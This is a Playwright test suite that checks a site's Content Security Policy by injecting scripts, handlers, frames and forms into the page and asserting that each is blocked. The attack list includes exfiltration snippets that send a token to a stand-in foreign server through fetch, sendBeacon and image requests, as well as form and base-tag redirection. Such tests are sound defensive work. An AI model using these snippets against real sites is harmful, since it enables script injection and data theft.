import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright/test';
import { signIn } from './rig/sign-in';
import { expect, test as base } from './rig/test';

/** What a stranger's code does in the page, once per way out; `foreign` is a server of somebody else. */
interface Attack {
  readonly name: string;
  readonly directive: string;
  readonly run: (foreign: string) => void;
}

interface Foreign {
  readonly origin: string;
  /** What arrived there; must stay empty. */
  readonly asked: string[];
}

/** A server that would answer anybody, so that only the policy can be what keeps the page from asking it. */
const test = base.extend<{ foreign: Foreign; unguarded: Page }>({
  foreign: async ({}, use) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
      response.end('window.attacked = true');
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    await use({ origin: `http://localhost:${(server.address() as AddressInfo).port}`, asked });
    server.closeAllConnections();
    server.close();
  },

  // The guard would rightly fail a test that breaks the policy on purpose.
  unguarded: async ({ browser, site }, use) => {
    const context = await browser.newContext({ baseURL: site.origin });
    await context.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
    });
    await use(await context.newPage());
    await context.close();
  },
});

const violations = (page: Page) => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
const attacked = (page: Page) => page.evaluate(() => 'attacked' in window);

const attacks: readonly Attack[] = [
  {
    name: 'an inline script',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
    },
  },
  {
    name: 'an event handler in an attribute',
    directive: 'script-src-attr',
    run: () => {
      document.body.setAttribute('onclick', 'window.attacked = true');
      document.body.click();
    },
  },
  {
    name: 'a foreign script',
    directive: 'script-src-elem',
    run: (foreign) => {
      document.body.append(Object.assign(document.createElement('script'), { src: foreign }));
    },
  },
  {
    name: 'a foreign fetch',
    directive: 'connect-src',
    run: (foreign) => void fetch(`${foreign}/?token=1`).catch(() => undefined),
  },
  {
    name: 'a beacon',
    directive: 'connect-src',
    run: (foreign) => void navigator.sendBeacon(foreign, 'token'),
  },
  {
    name: 'a foreign frame',
    directive: 'frame-src',
    run: (foreign) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: foreign }));
    },
  },
  {
    name: 'a frame of this site itself',
    directive: 'frame-src',
    run: () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: '/datenschutz/' }));
    },
  },
  {
    name: 'a foreign picture',
    directive: 'img-src',
    run: (foreign) => {
      new Image().src = `${foreign}/?token=1`;
    },
  },
  {
    name: 'a foreign style sheet',
    directive: 'style-src-elem',
    run: (foreign) => {
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: foreign }));
    },
  },
  {
    name: 'a form sent elsewhere',
    directive: 'form-action',
    run: (foreign) => {
      const form = Object.assign(document.createElement('form'), { action: foreign, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'a plugin',
    directive: 'object-src',
    run: (foreign) => {
      document.body.append(Object.assign(document.createElement('object'), { data: foreign }));
    },
  },
  {
    name: 'another base address',
    directive: 'base-uri',
    run: (foreign) => {
      document.head.append(Object.assign(document.createElement('base'), { href: foreign }));
    },
  },
];

test.describe('the policy refuses', () => {
  for (const { name, directive, run } of attacks) {
    test(name, async ({ unguarded: page, foreign }) => {
      await page.goto('/');
      await page.evaluate(run, foreign.origin);
      await expect.poll(() => violations(page)).toContain(directive);
      expect(await attacked(page)).toBe(false);
      expect(foreign.asked).toEqual([]);
    });
  }
});

test('without the policy the same attacks succeed, so that the tests above prove something', async ({
  browser,
  foreign,
  site,
}) => {
  const context = await browser.newContext({ baseURL: site.origin, bypassCSP: true });
  const page = await context.newPage();
  await page.goto('/');
  const outward = attacks.filter(({ name }) => /inline script|fetch|foreign frame|picture|beacon/.test(name));
  for (const { run } of outward) await page.evaluate(run, foreign.origin);
  await expect.poll(() => foreign.asked.length).toBe(outward.length - 1);
  expect(await attacked(page)).toBe(true);
  await context.close();
});

test('the whole sign-in and its reading need no frame', async ({ page }) => {
  const frames: string[] = [];
  page.on('frameattached', (frame) => frames.push(frame.url()));
  await page.goto('/');
  await signIn(page);
  expect(frames).toEqual([]);
});
